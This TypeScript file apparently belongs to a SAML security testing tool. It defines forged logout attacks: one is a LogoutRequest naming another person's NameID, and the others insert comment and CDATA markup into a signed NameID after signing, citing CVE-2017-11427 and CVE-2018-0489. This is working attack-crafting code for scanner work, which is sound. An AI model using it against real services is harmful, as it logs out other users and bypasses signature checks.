import { xmlText } from '../../../saml/write-xml.ts';
import type { Text } from '../../attack.ts';
import { forgedPerson, tail } from '../../forge/people.ts';
import { replaced } from '../../forge/pieces.ts';
import type { LogoutVariant, OpenSession } from '../logout-attack.ts';
import type { LogoutForge, RequestChanges } from '../logout-forge.ts';
import { logoutAttackOf, postOnly, words } from './logout-of.ts';

const harm: Text = {
  de: 'Wer selbst ein Konto hat, meldet mit der Abmeldung der eigenen Sitzung andere Menschen ab.',
  en: 'Whoever has an account logs other people out with the logout of their own session.',
};
const attack = logoutAttackOf({ harm });

/** Which sessions a message names; some services look at nothing else. */
const indexes: readonly (readonly [Text, RequestChanges])[] = [
  [words('alle Sitzungen', 'all sessions'), { sessionIndexes: [] }],
  [words('gleicher Name der Sitzung', 'same name of the session'), {}],
  [words('anderer Name der Sitzung', 'another name of the session'), { sessionIndexes: ['_angriff-1'] }],
];

/** Signed for somebody whose name begins like that of the person; the rest is split off after signing. */
const split = (forge: LogoutForge, markup: string, name: Text): readonly LogoutVariant[] =>
  indexes.slice(0, 2).map(([index, changes]) => ({
    name: { de: `${name.de}, ${index.de}`, en: `${name.en}, ${index.en}` },
    craft(session: OpenSession) {
      const { value } = session.nameId;
      const request = forge.request(session, { ...changes, nameId: `${value}${tail}` });
      return forge.write('post', request, {
        afterSigning: (xml) =>
          replaced(xml, `${xmlText(value)}${tail}<`, `${xmlText(value)}${markup.replace('…', tail)}<`),
      });
    },
  }));

/** Genuine logouts of somebody else. */
export const logoutPersonAttacks = [
  attack({
    id: 'logout-other-person',
    title: { de: 'Abmeldung einer anderen Person', en: 'Logout of another person' },
    references: ['SAML Core 2.0, 3.7.3.1'],
    variants: (forge, binding) =>
      indexes.map(([name, changes]) => ({
        name,
        craft: (session) =>
          forge.write(binding, forge.request(session, { ...changes, nameId: forgedPerson.nameId })),
      })),
  }),
  attack({
    id: 'logout-name-comment',
    bindings: postOnly,
    title: { de: 'Kommentar mitten im NameID der Abmeldung', en: 'Comment inside the NameID of the logout' },
    references: ['CVE-2017-11427', 'CVE-2018-0489'],
    variants: (forge) => [
      ...split(forge, '<!-- -->…', words('Kommentar', 'comment')),
      ...split(forge, '<![CDATA[…]]>', words('CDATA')),
    ],
  }),
];
